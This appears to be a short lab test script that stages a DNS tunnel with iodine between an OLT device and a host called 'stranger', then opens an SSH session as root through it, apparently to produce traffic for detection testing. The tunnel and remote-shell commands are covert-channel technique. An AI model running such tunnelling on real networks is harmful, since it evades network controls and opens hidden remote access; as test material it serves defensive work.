# SPDX-License-Identifier: Apache-2.0
# An OLT runs an SSH session inside DNS queries to 203.0.113.50 (iodine on both ends, NULL records).
start_management
add_host stranger
start_sshd stranger
start stranger iodined -f -c -P lab-tunnel 10.99.0.1 t.relay.example
wait_for stranger udp 53
start_capture
start_olt
olt_round 1
start olt-03 iodine -f -r -I 2 -T NULL -P lab-tunnel "${address[stranger]}" t.relay.example
for _ in {1..100}; do ip -n "$prefix-olt-03" route | grep -q 10.99.0.0 && break; sleep 0.2; done
typed 'id' exit | on olt-03 timeout 30 ssh -tt root@10.99.0.1 >/dev/null 2>&1 || true
olt_round 2
